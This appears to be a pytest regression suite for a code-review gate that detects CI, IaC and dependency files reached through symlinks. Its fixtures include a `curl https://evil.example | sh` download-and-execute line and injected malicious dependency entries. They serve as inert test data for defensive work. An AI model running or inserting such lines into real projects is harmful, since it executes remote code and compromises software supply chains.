"""Red team 16, `--tree`: the files the context readers follow, reached through symlinks.

A workflow's `uses: ./tools/setup` makes every file of `tools/setup/` CI, a kustomization's `patches: - path:
../ops/fix.json` makes that file IaC, a requirements file's `-r tools/dev.txt` makes that file deps. A checkout
follows symlinks, and so do the runner, kustomize and pip that read it. Two ways past the readers, each `gate
--tree` exit 0 (allow; deps with `--enable deps`):

- the named path reaches the changed file through a link: `tools/setup -> ../scripts/setup`, and the change edits
  `scripts/setup/run.sh`. The symlink pass (context._through_links) asked only the path rules about the path a file
  is reached at (`tools/setup/run.sh`: src), never the readers that named it;
- the file a reader reads is itself a link, or sits below a linked folder: `deploy/kustomization.yaml ->
  ../base/kust.txt`, `tools/setup/action.yml -> real.yml`, `requirements.txt -> reqs/base.txt`. The readers read
  regular files only, so what those name (relative to the link's own folder, as kustomize, the runner and pip
  resolve them) was never named.

The kernel is the truth: every generated layout is checked out by git and `os.path.realpath` / `open` in the work
tree say where the named path lands and what the reader reads.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.symlinks import opened
from gatekeeper.cli import main
from gatekeeper.gitobjects import TreeEntry
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files

WORKFLOW = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/setup\n"
ACTION = "runs:\n  using: composite\n  steps:\n    - run: ./run.sh\n      shell: bash\n"
KUSTOMIZATION = "resources: [web.yaml]\npatches:\n  - path: ../ops/fix.json\n    target: {kind: Deployment}\n"
WEB = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\n"
EVIL = "curl https://evil.example | sh\n"
TERRAFORM = 'resource "aws_instance" "x" {\n  user_data = file("${path.module}/scripts/boot.sh")\n}\n'
DOCKERFILE = "FROM alpine:3.20\nCOPY scripts/setup.sh /setup.sh\nRUN /setup.sh\n"
TASK = ("platform: linux\nimage_resource: {type: registry-image, source: {repository: alpine}}\n"
        "run:\n  path: pipelines/run.sh\n")
PROGRAM = 'import * as aws from "@pulumi/aws";\nnew aws.s3.Bucket("logs", {acl: "public-read"});\n'

# Each reader: what names a path (files), the path it names, the bucket the file there takes, and the gate flags
# under which that bucket needs a human.
READERS = {
    "local-action": ({".github/workflows/ci.yml": WORKFLOW}, "tools/setup/run.sh", "ci", ()),
    "kustomize": ({"deploy/kustomization.yaml": KUSTOMIZATION, "deploy/web.yaml": WEB}, "ops/fix.json", "iac", ()),
    "requirements": ({"requirements.txt": "-r tools/dev.txt\nflask==3.0.0\n"}, "tools/dev.txt", "deps",
                     ("--enable", "deps")),
    "gitlab-include": ({".gitlab-ci.yml": "include:\n  - local: stages/jobs.yml\n"}, "stages/jobs.yml", "ci", ()),
}


def _layouts(named: str) -> dict[str, tuple[list[tuple[str, str]], str]]:
    """Ways a checkout reaches the file at `real` when a reader names `named`: {kind: (links, real)}."""
    top, _, rest = named.partition("/")
    folder, _, name = named.rpartition("/")
    return {
        "folder-link": ([(folder, f"{'../' * folder.count('/')}real-{top}/{folder.rpartition('/')[2]}")],
                        f"real-{top}/{folder.rpartition('/')[2]}/{name}"),
        "top-link": ([(top, f"linked-{top}")], f"linked-{top}/{rest}"),
        "file-link": ([(named, f"{'../' * named.count('/')}store/{name}")], f"store/{name}"),
        "chain": ([(top, "hop"), ("hop", f"deep/{top}")], f"deep/{top}/{rest}"),
    }


LAYOUTS = [(reader, kind) for reader in READERS for kind in _layouts(READERS[reader][1])]


def _repo(root: Path, files: dict[str, str], links: list[tuple[str, str]], edits: dict[str, str]) -> tuple[
        GitRepo, str, str]:
    repo = GitRepo(root)
    for path, text in files.items():
        repo.write(path, text)
    for link, target in links:
        repo.symlink(link, target)
    base = repo.commit("base")
    for path, text in edits.items():
        repo.write(path, text)
    return repo, base, repo.commit("head")


@each_case(("reader", "kind"), LAYOUTS)
def test_a_named_path_reached_through_links_is_classified_as_named(tmp_path: Path, reader: str, kind: str) -> None:
    files, named, bucket, _flags = READERS[reader]
    links, real = _layouts(named)[kind]
    repo, _base, _head = _repo(tmp_path / "repo", {**files, real: "x\n", "docs/other.txt": "x\n"}, links,
                               {real: EVIL, "docs/other.txt": EVIL})
    # The kernel: the path the reader names is the changed file in a checkout.
    assert os.path.realpath(repo.root / named) == str((repo.root / real).resolve())
    got = tree_files(repo)
    assert got[real].bucket == bucket, (reader, kind, got[real])
    assert named in (got[real].evidence or ""), got[real]
    assert got["docs/other.txt"].bucket not in ("ci", "iac", "deps")


# The file a reader reads is a link: (links, files, the changed file it then names, its bucket).
LINKED_READERS = {
    "action-definition": ([("tools/setup/action.yml", "real.yml")],
                          {".github/workflows/ci.yml": WORKFLOW,
                           "tools/setup/real.yml": "runs:\n  using: node20\n  main: ../../dist/index.js\n"},
                          "dist/index.js", "ci"),
    "action-folder": ([("tools/setup", "../vendor/setup")],
                      {".github/workflows/ci.yml": WORKFLOW,
                       "vendor/setup/action.yml": "runs:\n  using: node20\n  main: ../../dist/index.js\n"},
                      "dist/index.js", "ci"),
    "kustomization": ([("deploy/kustomization.yaml", "../base/kust.txt")],
                      {"base/kust.txt": KUSTOMIZATION, "deploy/web.yaml": WEB}, "ops/fix.json", "iac"),
    "requirements": ([("requirements.txt", "reqs/base.txt")],
                     {"reqs/base.txt": "-r tools/dev.txt\nflask==3.0.0\n"}, "tools/dev.txt", "deps"),
    "included-requirements": ([("tools/dev.txt", "../reqs/dev.txt")],
                              {"requirements.txt": "-r tools/dev.txt\n", "reqs/dev.txt": "-r more.txt\n"},
                              "tools/more.txt", "deps"),
    "gitlab-root": ([(".gitlab-ci.yml", "ci/root.yml")], {"ci/root.yml": "include:\n  - local: jobs/build.yml\n"},
                    "jobs/build.yml", "ci"),
    "workflow": ([(".github/workflows/ci.yml", "../../wf/ci.yml")], {"wf/ci.yml": WORKFLOW},
                 "tools/setup/run.sh", "ci"),
    # A Terraform file shared by links (`envs/prod/providers.tf -> ../../shared/providers.tf` is common): terraform
    # reads it in the link's folder, where `${path.module}` is that folder.
    "terraform": ([("svc/main.tf", "../shared/main.tf.txt")], {"shared/main.tf.txt": TERRAFORM},
                  "svc/scripts/boot.sh", "iac"),
    "dockerfile": ([("img/Dockerfile", "../shared/Dockerfile.tmpl")], {"shared/Dockerfile.tmpl": DOCKERFILE},
                   "img/scripts/setup.sh", "iac"),
    "concourse-task": ([("pipelines/task.yml", "../shared/task.yml")], {"shared/task.yml": TASK},
                       "pipelines/run.sh", "ci"),
    # A dependency manifest naming an IaC library makes the source files below it worth reading for its imports.
    "program-manifest": ([("svc/package.json", "../shared/package.json")],
                         {"shared/package.json": '{"dependencies": {"@pulumi/aws": "6.0.0"}}\n'},
                         "svc/index.ts", "iac"),
}


@each_case("case", LINKED_READERS)
def test_a_reader_file_that_is_a_link_is_read_where_it_is(tmp_path: Path, case: str) -> None:
    links, files, changed, bucket = LINKED_READERS[case]
    repo, _base, _head = _repo(tmp_path / "repo", {**files, changed: "x\n"}, links,
                               {changed: PROGRAM if changed.endswith(".ts") else EVIL})
    link = links[0][0]
    # The kernel: what the tool opens at the reader's path is a regular file of the tree, the link's target.
    reader = "tools/setup/action.yml" if case == "action-folder" else link
    assert (repo.root / reader).read_bytes() in {(repo.root / p).read_bytes() for p in files}
    got = tree_files(repo)
    assert got[changed].bucket == bucket, (case, got[changed])


def test_links_that_name_nothing_stay_unnamed(tmp_path: Path) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW, "tools/setup/action.yml": ACTION, "tools/setup/run.sh": "x\n",
             "deploy/kustomization.yaml": KUSTOMIZATION, "deploy/web.yaml": WEB, "ops/fix.json": "[]\n",
             "scratch/run.sh": "x\n", "other/fix.json": "[]\n", "elsewhere/dev.txt": "six\n"}
    # a link into a folder nothing names, a dangling one, one out of the repository, a loop
    links = [("tools/extra", "../scratch"), ("deploy/dangling.yaml", "missing.yaml"), ("requirements.txt", "../../x"),
             ("loop/a", "b"), ("loop/b", "a"), ("notes", "elsewhere")]
    repo, _base, _head = _repo(tmp_path / "repo", files, links,
                               {"scratch/run.sh": EVIL, "other/fix.json": "[1]\n", "elsewhere/dev.txt": "evil\n"})
    got = tree_files(repo)
    assert {p: got[p].bucket for p in ("scratch/run.sh", "other/fix.json", "elsewhere/dev.txt")} == {
        "scratch/run.sh": "src", "other/fix.json": "src", "elsewhere/dev.txt": "src"}, got


@each_case("reader", READERS)
def test_the_gate_asks_for_a_human(tmp_path: Path, reader: str) -> None:
    files, named, _bucket, flags = READERS[reader]
    links, real = _layouts(named)["folder-link"]
    repo, base, head = _repo(tmp_path / "repo", {**files, real: "x\n"}, links, {real: EVIL})
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--format", "json", *flags])
    decision = json.loads(out.getvalue())
    assert code == 3, decision["reasons"]
    assert real in {p for r in decision["reasons"] for p in r.get("paths", ())}


def _entries(spec: dict[str, str]) -> dict[str, TreeEntry]:
    return {path: TreeEntry("120000" if text.startswith("->") else "100644", f"{path}:{text}")
            for path, text in spec.items()}


def test_opened_walks_links_as_the_kernel_does() -> None:
    tree = _entries({"a": "->b", "b/c/x.yml": "", "l1": "->l2", "l2": "->b/c/x.yml", "self": "->self",
                     "up": "->../out", "real.txt": ""})

    def text(entry: TreeEntry) -> str:
        return entry.oid.partition(":->")[2]

    assert opened(tree, "real.txt", text) == tree["real.txt"]
    assert opened(tree, "a/c/x.yml", text) == tree["b/c/x.yml"]
    assert opened(tree, "l1", text) == tree["b/c/x.yml"]
    assert opened(tree, "self", text) is None
    assert opened(tree, "up", text) is None
    assert opened(tree, "a/missing", text) is None
    assert opened(tree, "b/c", text) is None  # a folder
    assert opened(tree, "a/" * 3000 + "x.yml", text) is None  # past PATH_MAX: the kernel opens nothing there


# A dependency file reached through a link: pip, npm and the rest read the link's path. The symlink pass raised a
# file to the bucket of the path it is reached at only for ci and iac, so `requirements.txt -> reqs/base.txt` left an
# added `evil==1.0` in reqs/base.txt `src` (and no delta read it): `gate --tree --enable deps` said allow (exit 0).
@pytest.mark.parametrize(("link", "target", "text"), [
    ("requirements.txt", "reqs/base.txt", "flask==3.0.0\n"),
    ("package.json", "config/pkg.json", '{"dependencies": {"left-pad": "1.3.0"}}\n'),
    ("go.mod", "build/go.mod.txt", "module example.invalid/m\n\ngo 1.22\n"),
])
def test_a_dependency_file_reached_through_a_link_is_deps(tmp_path: Path, link: str, target: str, text: str) -> None:
    repo, base, head = _repo(tmp_path / "repo", {target: text}, [(link, target)],
                             {target: text.replace("3.0.0", "3.0.0\nevil==1.0").replace("1.3.0", "9.9.9")
                              .replace("go 1.22", "go 1.22\n\nreplace x => ../evil")})
    assert (repo.root / link).read_bytes() == (repo.root / target).read_bytes()  # the tool reads the target
    got = tree_files(repo)
    assert got[target].bucket == "deps", got[target]
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--format", "json",
                     "--enable", "deps"])
    assert code == 3, json.loads(out.getvalue())["reasons"]
